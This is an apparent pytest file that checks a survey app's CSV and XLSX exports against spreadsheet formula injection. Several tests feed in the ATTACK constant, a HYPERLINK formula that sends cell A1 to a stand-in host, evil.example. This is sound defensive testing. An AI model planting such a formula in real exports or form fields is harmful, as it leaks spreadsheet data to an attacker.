"""No cell of an export can run as a spreadsheet formula: text starting with = + - @ (or a tab or
carriage return) gets a leading single quote, in CSV and XLSX, header included."""

from __future__ import annotations

import io
from datetime import date, datetime

import openpyxl
import pytest

from opennps.analytics.exports import cell_text, csv_lines, neutralise, write_xlsx
from tests.reports.helpers import answer, csv_rows, downloaded, make_shop

ATTACK = '=HYPERLINK("http://evil.example/?leak="&A1,"Click")'


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        (ATTACK, "'" + ATTACK),
        ("+1+2", "'+1+2"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("a = b", "a = b"),
        ("", ""),
        ("'already quoted", "'already quoted"),
    ],
)
def test_text_that_a_spreadsheet_would_run_is_quoted(text, expected):
    assert neutralise(text) == expected


def test_numbers_and_dates_stay_numbers_and_dates():
    assert cell_text(-12.5) == "-12.5"
    assert cell_text(7) == "7"
    assert cell_text(date(2025, 3, 1)) == "2025-03-01"
    assert cell_text(None) == ""
    assert cell_text("-12.5") == "'-12.5"  # text that looks like a number is still text


def test_csv_and_xlsx_writers_neutralise_every_text_cell_including_the_header(tmp_path):
    header = ["=cmd", "score", "when"]
    rows = [[ATTACK, 9, datetime(2025, 3, 1, 12, 30)], ["@me", -3, date(2025, 3, 2)]]

    lines = "".join(csv_lines(header, rows))
    write_xlsx(tmp_path / "out.xlsx", "=Sheet", header, rows)

    assert lines.startswith("\ufeff'=cmd,score,when\r\n")
    assert "'=HYPERLINK" in lines and "'@me" in lines
    sheet = openpyxl.load_workbook(tmp_path / "out.xlsx").active
    values = [list(row) for row in sheet.iter_rows(values_only=True)]
    assert values[0] == ["'=cmd", "score", "when"]
    assert values[1] == ["'" + ATTACK, 9, datetime(2025, 3, 1, 12, 30)]
    assert values[2] == ["'@me", -3, datetime(2025, 3, 2)]
    assert sheet.title == "=Sheet"  # a sheet name is never evaluated
    assert all(cell.data_type != "f" for row in sheet.iter_rows() for cell in row)


def test_xlsx_can_be_written_to_an_open_binary_file():
    buffer = io.BytesIO()

    assert write_xlsx(buffer, "Responses", ["a"], [["x"], ["y"]]) == 2
    assert buffer.getvalue().startswith(b"PK")


@pytest.mark.django_db
def test_a_malicious_comment_comes_out_quoted_in_both_formats():
    shop = make_shop()
    answer(shop.survey, 1, ATTACK, third_answer="+49 30 1234", attributes={"ref": "-1"})
    client = shop.client_for(shop.bob)

    rows = csv_rows(downloaded(client.get(shop.url("responses/export.csv"))))
    workbook = openpyxl.load_workbook(
        io.BytesIO(downloaded(client.get(shop.url("responses/export.xlsx"))))
    )

    header = rows[0]
    row = dict(zip(header, rows[1], strict=True))
    assert row["comment"] == "'" + ATTACK
    assert row["third_answer"] == "'+49 30 1234"
    assert row["attribute:ref"] == "'-1"
    sheet_rows = list(workbook.active.iter_rows(values_only=True))
    sheet_row = dict(zip(sheet_rows[0], sheet_rows[1], strict=True))
    assert sheet_row["comment"] == "'" + ATTACK
    assert sheet_row["attribute:ref"] == "'-1"
